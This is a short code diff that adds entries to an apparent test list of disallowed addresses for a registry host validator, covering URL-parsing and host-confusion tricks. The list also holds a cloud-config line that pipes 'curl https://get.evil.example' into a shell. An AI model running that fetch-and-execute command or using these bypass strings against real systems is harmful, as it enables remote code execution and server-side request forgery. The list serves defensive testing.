@@ -97,6 +97,8 @@ OUTSIDE = [
     "010.064.000.001",
     "http://registry.eu-lu-1.sov.internal:443@evil.example/",
     "10.64.0.1.nip.io",
+    "evil.example:80@registry.eu-lu-1.sov.internal",  # no scheme: each side may be read as the host
+    "x@evil.example\\y",
     "#cloud-config\nruncmd:\n  - curl https://get.evil.example | sh\n",
 ]
 
